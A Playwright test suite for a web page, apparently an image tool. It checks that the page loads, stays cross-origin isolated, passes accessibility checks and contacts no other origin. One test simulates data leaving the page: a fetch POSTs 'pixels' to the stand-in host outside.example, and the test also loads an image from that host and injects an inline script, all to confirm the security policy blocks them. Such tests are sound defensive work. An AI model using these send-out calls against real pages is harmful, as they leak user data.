import { expect, test } from "./fixtures";

for (const prefix of ["/", "/tools/alphacut/"])
  test.describe(`shown at ${prefix}`, () => {
    test.use({ prefix });

    test("the page opens, keeps its policy, and asks nobody else", async ({ page, site, asked }) => {
      const answer = await page.goto("./");
      expect(answer?.status()).toBe(200);
      await expect(page.getByRole("main")).toBeVisible();
      expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
      await page.waitForLoadState("networkidle");
      expect(asked.length).toBeGreaterThan(1);
      expect(asked.filter((address) => !address.startsWith(site.url))).toEqual([]);
      expect(site.sent.filter(({ body }) => body.length > 0)).toEqual([]);
    });
  });

for (const colorScheme of ["light", "dark"] as const)
  test(`nothing stands in the way of assistive technology, ${colorScheme}`, async ({ page, axe }) => {
    await page.emulateMedia({ colorScheme });
    await page.goto("./");
    await expect(page.getByRole("main")).toBeVisible();
    expect(await axe()).toEqual([]);
  });

test("the policy lets nothing out, and the watch sees what tries", async ({ page, troubles, asked }) => {
  troubles.allow(/outside\.example|^policy: script-src-elem inline$|inline script/);
  await page.goto("./");
  const failed = await page.evaluate(() =>
    fetch("https://outside.example/", { method: "POST", body: "pixels" }).then(
      () => false,
      () => true,
    ),
  );
  expect(failed).toBe(true);
  await page.evaluate(() => {
    document.body.append(Object.assign(new Image(), { src: "https://outside.example/a.png" }));
    const script = document.createElement("script");
    script.textContent = "globalThis.ran = 'outside.example'";
    document.body.append(script);
  });
  await expect.poll(() => troubles.seen.join()).toContain("policy: img-src https://outside.example/a.png");
  expect(troubles.seen.join()).toContain("policy: connect-src https://outside.example/");
  expect(await page.evaluate(() => "ran" in globalThis)).toBe(false);
  expect(asked.splice(0).filter((address) => address.includes("outside"))).not.toEqual([]);
});

test("what the page sends is counted where it arrives", async ({ page, site, troubles }) => {
  troubles.allow(/405/); // of the address that is sent to here
  await page.goto("./");
  await page.evaluate(() => fetch("health", { method: "POST", body: new Blob(["x".repeat(1234)]) }));
  expect(site.sent.at(-1)).toMatchObject({ method: "POST", path: "/health" });
  expect(site.sent.at(-1)?.body.length).toBe(1234);
});
